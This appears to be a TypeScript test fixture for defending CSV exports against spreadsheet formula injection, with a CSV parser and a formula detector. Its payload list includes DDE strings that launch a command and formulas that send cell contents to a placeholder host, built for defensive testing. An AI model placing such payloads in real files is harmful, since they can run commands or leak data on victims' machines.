/** Text a spreadsheet would calculate, or run. */
export const formulas: string[] = [
  '=1+1', "=cmd|' /C calc'!A0", '=HYPERLINK("https://x.invalid/?"&A1,"click")', '=IMPORTXML(CONCAT("https://x.invalid/",A1),"//a")',
  '=WEBSERVICE("https://x.invalid/"&A1)', '=IMAGE("https://x.invalid/"&A1)', '=DDE("cmd";"/C calc";"x")', '=SUM(A1:A9)*2', '="a"', "='a'", '==1', '=',
  '+1+1', "+cmd|' /C calc'!A0", '+A1', '+SUM(A1)', '++1', '+', '-1+1', "-2+3+cmd|' /C calc'!A0", '-A1', '--1', '-',
  '-5 % or so', '-5e9', "@SUM(1+1)*cmd|' /C calc'!A0", '@A1', '@handle', '@', '\t=1+1', '\t1+1', '\t', '\r=1+1', '\rtext', '\n=1+1',
  '\ntext', '\r\n=1+1', '|calc', '|', '%0A=1+1', '%', '＝1+1', '＋1+1', '－1+1', '＠SUM(A1)', ' =1+1', '   =1+1', ' +1+1',
  ' -1+1', ' @SUM(A1)', ' \t=1+1', ' \n=1+1', ' ＝1+1', '\ufeff=1+1', '\ufeff+A1', '\ufeff\ufeff=1+1', '\u0000=1+1',
  '\u0000\u0000@SUM(A1)', ' \ufeff\u0000=1+1', '\u00a0=1+1', '\u3000＝1+1', '\u200b=1+1', '\u000b=1+1', '\u000c=1+1', '\u001b=1+1',
  '\u007f=1+1', '\u0085=1+1', '\u2028=1+1', '\u202e=1+1', '\u2060@A1', '\u00ad=1+1', '=1+1"', '=1+1","=2+2', '=1+1;=2+2', '-1,2,x',
  '+49 30 1234 ext 5', '-1\t=1+1', '-1\n=1+1', '=<img src=x onerror=alert(1)>', "=1+1'", '=\u0000',
]; // prettier-ignore

/** Text that no spreadsheet calculates, and that must arrive as it is. */
export const harmless: string[] = [
  '', 'Paid search', '-5 %', '-5%', '-5', '+12', '+49,5 %', '-1,234.50', '-1 234,50', '+49 30 1234567', '−5 points', '5=5',
  'a@b.example', 'a|b', '50 %', "'quoted", '"quoted"', 'line one\r\n=line two', 'comma, semicolon; tab\t', '(not set)', '#N/A', '‑ hyphen',
]; // prettier-ignore

/**
 * CSV read as RFC 4180 says, a character at a time: a second opinion that shares nothing with the program. Throws where
 * a quote stands inside an unquoted field or something follows a closing one.
 */
export function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = text.startsWith('\ufeff') ? 1 : 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (at >= text.length) throw new Error('A quote is never closed.');
        if (text[at] === '"') at += 1;
        cell += text[at];
      }
      at += 1;
    } else {
      for (; at < text.length && !',\r\n'.includes(text[at]!); at += 1) {
        if (text[at] === '"') throw new Error('A quote stands inside a field.');
        cell += text[at];
      }
    }
    row.push(cell);
    if (text[at] === ',') at += 1;
    else if (text.startsWith('\r\n', at) || at >= text.length) {
      rows.push(row);
      row = [];
      at += 2;
    } else throw new Error(`A field goes on behind its quote at ${at}.`);
  }
  return rows;
}

/** Whether a spreadsheet takes a cell for a formula, or skips to one: any of its ways, whatever stands before it. */
export function isFormula(cell: string): boolean {
  const [first = ''] = /[^\p{C}\p{Z}]/u.exec(cell) ?? [];
  const isNumber = /^\s*[+-]?\d[\d.,\s]*%?\s*$/.test(cell);
  return !isNumber && ('=+-@|%＝＋－＠'.includes(first || ' ') || /^[\t\r\n]/.test(cell));
}
